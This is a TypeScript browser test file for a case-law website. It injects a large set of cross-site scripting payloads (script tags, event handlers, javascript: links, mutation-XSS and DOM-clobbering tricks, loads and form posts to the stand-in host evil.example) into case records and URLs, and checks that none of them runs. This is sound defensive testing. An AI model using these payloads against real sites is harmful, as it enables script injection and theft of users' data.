/**
 * What lies in a corpus runs nowhere: every text field, HTML attribute, address and element is an attack, in each form that
 * a body has. `browserTest` fails on any dialog, script error, request elsewhere and breach of the policy, and each of
 * these attacks makes one of them when it works.
 */
import { join } from "node:path";
import type { Page } from "playwright-core";
import { expect } from "vitest";
import { LISTED, RULES } from "../../src/notes/known-faults.ts";
import { oneCase, textBody, xmlBody } from "../http/records.ts";
import { serviceOfFile } from "../http/serving.ts";
import { browserTest, expectAccessible, expectNoSidewaysScroll } from "../support/browser.ts";
import { importRecords, openTestWriter } from "../support/corpus.ts";
import { staticCase } from "../support/records.ts";
import { startService } from "../support/service.ts";
import { keptFolder } from "../support/temp-folder.ts";

/** Attacks that work where HTML is passed on. */
const MARKUP = [
  "<script>alert(1)</script>",
  '<script src="//evil.example/x.js"></script>',
  "<img src=x onerror=alert(2)>",
  "<svg onload=alert(3)><script>alert(4)</script><animate onbegin=alert(5) attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:alert(6)"><text>click</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>",
  '<a href="javascript:alert(8)" id=clicked>click</a><a href=" jAvAscript:alert(9)">click</a>',
  '<a href="data:text/html,<script>alert(10)</script>">click</a><a href="//evil.example/">click</a>',
  '<iframe src="//evil.example/"></iframe><iframe srcdoc="<script>alert(11)</script>"></iframe>',
  '<object data="//evil.example/x"></object><embed src="//evil.example/x">',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css"><style>@import "//evil.example/y.css"; body{display:none}</style>',
  '<p style="background:url(//evil.example/z)" onmouseover=alert(12) onclick=alert(13) onfocus=alert(14) tabindex=0 autofocus>x</p>',
  "<form id=main action=//evil.example/><input name=body><button autofocus onfocus=alert(15)>send</button></form>",
  '<img id=main name=getElementById src="//evil.example/i.png"><video src="//evil.example/v" autoplay onerror=alert(16)></video>',
  "<details open ontoggle=alert(17)><summary>x</summary></details><marquee onstart=alert(18)>x</marquee>",
  '<noscript><p title="</noscript><img src=x onerror=alert(19)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(20)>"></textarea>',
  "<!--><img src=x onerror=alert(21)>--><![CDATA[<img src=x onerror=alert(22)>]]>",
  '<p class="citation" id="cites" href="javascript:alert(23)">1 Mass. 1</p>',
  '<a class="citation" href="javascript:alert(24)" data-cite="1 Mass. 1&quot; onmouseover=&quot;alert(25)">1 Mass. 1" onmouseover="alert(26)</a>',
  '<a class="page-label" id="main" data-label="5&quot; onmouseover=alert(27) x=&quot;" href="javascript:alert(28)">*5</a>',
  '<aside class="footnote" id="footnote_1&quot;onclick=alert(29)"><a href="javascript:alert(30)">1</a><p>note</p></aside>',
  '<a class="footnotemark" href="javascript:alert(31)" id="ref_footnote_1">1</a>',
  "</section></article></main></body><script>alert(32)</script>",
].join("\n");

/** The end of whatever the text may be put into, then an attack. */
const TEXT = `"'></title></script></style></textarea>-->]]><script>alert(40)</script><img src=x onerror=alert(41)> mill`;

const FIELDS = {
  name: TEXT,
  name_abbreviation: TEXT,
  decision_date: TEXT,
  docket_number: TEXT,
  first_page: TEXT,
  last_page: TEXT,
  citations: [{ type: TEXT, cite: TEXT }],
  volume: { volume_number: TEXT, barcode: `"><script>` },
  reporter: { id: 21, full_name: TEXT },
  court: { id: 11, name: TEXT, name_abbreviation: TEXT, slug: `"><img src=x onerror=alert(42)>` },
  jurisdiction: {
    id: 1,
    slug: `"><img src=x onerror=alert(43)>`,
    name: TEXT,
    name_long: TEXT,
    whitelisted: true,
  },
  cites_to: [{ cite: TEXT, reporter: TEXT, case_ids: [TEXT] }, { cite: "2 Mass. 1" }],
};

const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");

/** Every element and attribute of the XML holds an attack; well-formed, as the import asks for. */
const XML = [
  `<parties id="${escaped(TEXT)}">${escaped(TEXT)}</parties><headnotes id="main">1 x</headnotes>`,
  `<opinion type="${escaped(TEXT)}" onclick="alert(50)" style="background:url(//evil.example/)"><author id="main">${escaped(TEXT)}</author>`,
  `<p id="cites" onmouseover="alert(51)">mill <page-number label="${escaped(TEXT)}" href="javascript:alert(52)">*8</page-number>`,
  `<footnotemark href="javascript:alert(53)">1</footnotemark><bracketnum>(1)</bracketnum>`,
  `<extracted-citation url="javascript:alert(54)" case-ids="${escaped(TEXT)}">${escaped(TEXT)}</extracted-citation>`,
  `<img src="javascript:alert(55)"/><img src="//evil.example/i.png"/><img src="data:image/svg+xml;base64,PHN2Zy8+" onerror="alert(56)"/>`,
  `<script>alert(57)</script><svg onload="alert(58)"><script>alert(59)</script></svg><iframe src="//evil.example/"/>`,
  `<style>body{display:none}</style><base href="//evil.example/"/><form action="//evil.example/"><input name="body"/></form>`,
  `<a href="javascript:alert(60)">click</a></p><footnote label="${escaped(TEXT)}"><p>${escaped(TEXT)}</p></footnote></opinion>`,
].join("");

const STATIC_HTML = `<section class="casebody"><section class="head-matter"><h4 class="parties">${MARKUP}</h4></section><article class="opinion" data-type="&quot;><script>alert(70)</script>"><p class="author">${MARKUP}</p><p>mill</p>${MARKUP}</article></section>${MARKUP}`;

/** By their ids. */
const FORMS = {
  1: "text",
  2: "XML",
  3: "static HTML",
  4: "static HTML that never ends",
  5: "no body",
} as const;

const folder = keptFolder();
const served = serviceOfFile(async () => {
  const corpusPath = join(folder, "hostile.db");
  using writer = openTestWriter(corpusPath);
  const body = textBody(`${TEXT}\n${MARKUP}`, `mill\n${MARKUP}`);
  const { casebody: _body, ...bare } = oneCase(5, FIELDS);
  importRecords(writer, {
    unit: "bulk",
    records: [
      oneCase(1, { ...FIELDS, casebody: body }),
      oneCase(2, { ...FIELDS, casebody: xmlBody(XML) }),
      bare,
    ],
  });
  const { volume: _volume, reporter: _reporter, ...fields } = FIELDS;
  const unclosed = `${STATIC_HTML}<article class="opinion"><p>mill<!-- <a title="`;
  importRecords(writer, {
    unit: "static",
    records: [staticCase(3, fields), staticCase(4, fields)],
    html: { 3: STATIC_HTML, 4: unclosed },
  });
  return { corpusPath };
});

/** Elements and attributes that no page of ours has within its main part, but for the focus of the search box. */
const FOREIGN =
  "main :is(script, style, iframe, object, embed, base, meta, link, form:not([class]), video, math, marquee, textarea, details:not([class]), [style], [srcdoc], [onclick], [onerror], [onload], [onmouseover], [onfocus], [autofocus]:not(.search-box > [type='search']), [name='getElementById'])";

/** The sources of the notes on known faults. */
const NOTED: ReadonlySet<string> = new Set(
  [...Object.values(RULES), ...Object.values(LISTED)].map(({ source }) => source),
);

async function expectHarmless(page: Page): Promise<void> {
  expect(await page.locator(FOREIGN).count()).toBe(0);
  expect(await page.locator("#main").count()).toBe(1);
  expect(await page.locator("script:not([type='application/ld+json'])").count()).toBe(1);
  const links: string[] = await page.evaluate("[...document.links].map(({ href }) => href)");
  const places = links.filter((href) => !NOTED.has(href)).map((href) => new URL(href));
  const { protocol, host } = new URL(page.url());
  expect(new Set(places.map((place) => place.protocol + place.host))).toEqual(
    new Set([protocol + host, "https:case.law"]),
  );
  const pictures: string[] = await page.evaluate("[...document.images].map(({ src }) => src)");
  expect(pictures.filter((src) => !/^data:image\/(?:png|gif|jpeg|webp);/.test(src))).toEqual([]);
}

browserTest("the attacks do work where they are passed on: the watch sees them", async (open) => {
  const raw = await startService((_request, response) => {
    response.writeHead(200, { "Content-Type": "text/html" });
    response.end(`<!doctype html><main id="main">${STATIC_HTML}</main>`);
  }, 0);
  const { page, faults } = await open(`${raw.url}/`);
  const found = faults.splice(0);
  expect(found.filter((fault) => fault.startsWith("dialog: ")).length).toBeGreaterThan(5);
  expect(found.filter((fault) => fault.startsWith("request elsewhere: ")).length).toBeGreaterThan(5);
  await expect(expectHarmless(page)).rejects.toThrow();
  faults.length = 0;
  await raw.close();
});

for (const [id, form] of Object.entries(FORMS)) {
  browserTest(`a case of attacks runs nothing and reaches nothing: ${form}`, async (open) => {
    for (const script of ["off", "on"] as const) {
      const { page } = await open(`${served.url}/cases/${id}/?cites=all`, { script, width: 320 });
      await expectHarmless(page);
      expect(await page.locator("h1").textContent()).toBe(TEXT);
      if (script === "off") continue;
      await expectNoSidewaysScroll(page);
      if (/HTML$/.test(form)) await expectAccessible(page);
      if (form === "text")
        expect(await page.locator(".case-opinion p").allTextContents()).toEqual([
          "mill",
          ...MARKUP.split("\n"),
        ]);
      // nothing wakes up under the pointer, by the keyboard, or by a click on the text
      await page.setViewportSize({ width: 1280, height: 900 });
      for (const part of await page.locator(".case-text p, .case-text div").all())
        await part.dispatchEvent("mouseover");
      for (let at = 0; at < 20; at++) await page.keyboard.press("Tab");
      for (const text of await page.getByText("click", { exact: true }).all())
        await text.click({ force: true });
      expect(new URL(page.url()).pathname).toBe(`/cases/${id}/`);
    }
  });
}

browserTest("no page that lists such cases runs anything", async (open) => {
  const slug = encodeURIComponent(FIELDS.jurisdiction.slug);
  const evil = encodeURIComponent(TEXT);
  const places = [
    "/",
    "/?search=mill",
    `/?search=${evil}`,
    `/?search=mill+%7C+${evil}&reporter=21&jurisdiction=${slug}&court=${encodeURIComponent(FIELDS.court.slug)}`,
    `/?author=${evil}&court=${evil}&decision_date_min=${evil}&ordering=${evil}`,
    `/?cites_to=${evil}`,
    `/?cite=${evil}`,
    `/cases/1/?search=mill+%7C+${evil}#match-1`,
    "/browse/",
    `/browse/${slug}/`,
    `/browse/${slug}/21/`,
    `/browse/${slug}/21/${encodeURIComponent(FIELDS.volume.barcode)}/`,
    `/trends/?q=${evil}&q=mill&jurisdiction=${slug}`,
    `/trends/?q=mill&jurisdiction=${slug}&court=${encodeURIComponent(FIELDS.court.slug)}&scale=cases`,
    `/trends/?q=mill&jurisdiction=${evil}&court=${evil}&decision_date_min=${evil}`,
    `/cases/${evil}/`,
    `/${evil}`,
  ];
  const { page } = await open(served.url);
  for (const place of places) {
    await page.goto(served.url + place);
    await expectHarmless(page);
  }
  await page.goto(`${served.url}/?search=mill`);
  expect(await page.locator("[data-result]").first().textContent()).toBe(TEXT);
});
